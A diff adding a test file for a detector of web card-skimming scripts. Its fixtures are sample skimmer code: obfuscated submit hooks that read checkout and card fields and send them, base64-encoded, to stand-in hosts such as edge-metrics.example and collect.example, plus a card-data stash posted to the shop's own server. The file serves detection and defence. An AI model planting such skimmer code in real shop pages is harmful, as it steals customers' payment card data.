@@ -1,0 +1,63 @@
+import { describe, expect, it } from 'vitest'
+import { analyzeScript } from '../../detector/index.ts'
+
+// Ways a send or a read hides: a request made through Reflect.apply to an address a reduce over
+// numbers builds, names joined by a one-line wrapper, the checkout form serialized whole, card
+// values handed back to the third party the script came from, or stashed base64 on the shop.
+const rules = (source: string, ctx = {}): string[] =>
+  analyzeScript(source, ctx)
+    .findings.filter((f) => f.points > 0)
+    .map((f) => f.rule)
+const xor = (s: string, k: number): string => [...s].map((c) => c.charCodeAt(0) ^ k).join(',')
+
+describe('sends the first look cannot name', () => {
+  it('XMLHttpRequest opened and sent through Reflect.apply, to an address a reduce builds', () => {
+    const source = `var url = [${xor('https://edge-metrics.example/q', 0x21)}].reduce(function (a, n) {
+        return a + String.fromCharCode(n ^ 0x21) }, '')
+      document.addEventListener('submit', function (e) {
+        var f = e.target.elements, v = []
+        for (var i = 0; i < f.length; i++) v.push(f[i].name + '=' + f[i].value)
+        var x = new XMLHttpRequest(), P = XMLHttpRequest.prototype
+        Reflect.apply(P.open, x, ['POST', url, true])
+        Reflect.apply(P.send, x, [btoa(v.join('|'))])
+      }, true)`
+    const v = analyzeScript(source)
+    expect(v.verdict).toBe('malicious')
+    expect(v.findings.map((f) => f.message).join('\n')).toContain('https://edge-metrics.example/q')
+  })
+
+  it('names joined by a one-line wrapper of + are names', () => {
+    const source = `var j = function (a, b) { return a + b }
+      document[j('addEvent', 'Listener')](j('sub', 'mit'), function () {
+        var c = document[j('query', 'Selector')](j('#cc', '_number'))[j('val', 'ue')]
+        new Image().src = j('https://px.example', '/i.gif?c=') + btoa(c) }, true)`
+    expect(rules(source)).toContain('card-field-read-and-send')
+  })
+})
+
+describe('reads of the whole checkout form', () => {
+  const send = (form: string): string =>
+    `jQuery(function ($) { $(document.body).on('checkout_place_order', function () {
+       $.post('https://collect.example/c', { d: $('${form}').serialize() }) }) })`
+
+  it('the checkout form serialized and posted to another host is a read of every field', () => {
+    expect(rules(send('form.checkout'))).toContain('card-field-read-and-send')
+  })
+
+  it("a widget's own form serialized is not the checkout", () => {
+    expect(rules(send('#newsletter-signup'))).not.toContain('card-field-read-and-send')
+  })
+})
+
+describe('card values kept on the shop', () => {
+  it('base64 over card values posted to the shop itself is a stash, not a checkout', () => {
+    const stash = `jQuery(function ($) { $('form.checkout').on('submit', function () {
+        var d = { n: $('input[name="card_number"]').val(), c: $('input[name="card_cvc"]').val() }
+        $.post('/wp-admin/admin-ajax.php', { action: 'x', p: btoa(JSON.stringify(d)) }) }) })`
+    const v = analyzeScript(stash)
+    expect(v.verdict).toBe('suspicious')
+    expect(v.findings[0]?.message).toMatch(/base64-encoded to the shop's own server/)
+    const plain = stash.replace('btoa(JSON.stringify(d))', 'd')
+    expect(analyzeScript(plain).verdict).toBe('clean')
+  })
+})
